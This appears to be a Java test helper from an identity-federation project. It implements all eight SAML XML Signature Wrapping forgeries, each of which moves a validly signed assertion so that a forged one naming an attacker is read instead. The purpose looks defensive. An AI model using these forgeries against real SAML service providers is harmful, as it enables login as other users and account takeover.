package io.doorstep.identity.federation.saml;

import static io.doorstep.identity.federation.saml.StandInIdp.DS;
import static io.doorstep.identity.federation.saml.StandInIdp.PROTOCOL;
import static io.doorstep.identity.federation.saml.StandInIdp.SAML;

import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/// The eight known ways to put a forgery where a signature looks away («On Breaking SAML», 2012).
enum SignatureWrapping {
    /// The forged response holds the good one inside the signature.
    XSW1 {
        @Override
        void forge(Document document) {
            Element good = (Element) document.getDocumentElement().cloneNode(true);
            Element response = forgedResponse(document);
            signatureOf(response).appendChild(good);
        }
    },
    /// The forged response holds the good one before the signature.
    XSW2 {
        @Override
        void forge(Document document) {
            Element good = (Element) document.getDocumentElement().cloneNode(true);
            Element signature = signatureOf(forgedResponse(document));
            signature.getParentNode().insertBefore(good, signature);
        }
    },
    /// The forged assertion stands before the good one.
    XSW3 {
        @Override
        void forge(Document document) {
            Element good = assertion(document);
            good.getParentNode().insertBefore(forgedFrom(good), good);
        }
    },
    /// The good assertion stands inside the forged one.
    XSW4 {
        @Override
        void forge(Document document) {
            Element good = assertion(document);
            Element forged = forgedFrom(good);
            good.getParentNode().replaceChild(forged, good);
            forged.appendChild(good);
        }
    },
    /// The forged assertion has the good one's signature, the good one follows without.
    XSW5 {
        @Override
        void forge(Document document) {
            Element good = assertion(document);
            Element forged = forgedFrom(good);
            forged.insertBefore(
                    good.removeChild(signatureOf(good)),
                    forged.getElementsByTagNameNS(SAML, "Subject").item(0));
            good.getParentNode().insertBefore(forged, good);
        }
    },
    /// The forged assertion has the good one's signature, the good one stands in it.
    XSW6 {
        @Override
        void forge(Document document) {
            Element good = assertion(document);
            Element forged = forgedFrom(good);
            good.getParentNode().replaceChild(forged, good);
            Node signature = good.removeChild(signatureOf(good));
            forged.insertBefore(
                    signature, forged.getElementsByTagNameNS(SAML, "Subject").item(0));
            signature.appendChild(good);
        }
    },
    /// The forged assertion stands among the extensions.
    XSW7 {
        @Override
        void forge(Document document) {
            Element good = assertion(document);
            Element extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
            extensions.appendChild(forgedFrom(good));
            good.getParentNode().insertBefore(extensions, good);
        }
    },
    /// The good assertion stands in an object of the signature that the forged one has.
    XSW8 {
        @Override
        void forge(Document document) {
            Element good = assertion(document);
            Element forged = forgedFrom(good);
            good.getParentNode().replaceChild(forged, good);
            Node signature = good.removeChild(signatureOf(good));
            forged.insertBefore(
                    signature, forged.getElementsByTagNameNS(SAML, "Subject").item(0));
            Element object = document.createElementNS(DS, "Object");
            object.appendChild(good);
            signature.appendChild(object);
        }
    };

    static final String ATTACKER = "attacker@homes.example";

    abstract void forge(Document document);

    private static Element assertion(Document document) {
        return StandInIdp.one(document, SAML, "Assertion");
    }

    private static Element signatureOf(Element element) {
        for (Node child = element.getFirstChild(); child != null; child = child.getNextSibling()) {
            if ("Signature".equals(child.getLocalName())) {
                return (Element) child;
            }
        }
        return (Element) element.getElementsByTagNameNS(DS, "Signature").item(0);
    }

    private static Element forgedResponse(Document document) {
        Element response = document.getDocumentElement();
        response.setAttribute("ID", "_forged-response");
        StandInIdp.one(document, SAML, "NameID").setTextContent(ATTACKER);
        return response;
    }

    private static Element forgedFrom(Element good) {
        Element forged = (Element) good.cloneNode(true);
        forged.removeChild(signatureOf(forged));
        forged.setAttribute("ID", "_forged");
        forged.getElementsByTagNameNS(SAML, "NameID").item(0).setTextContent(ATTACKER);
        return forged;
    }
}
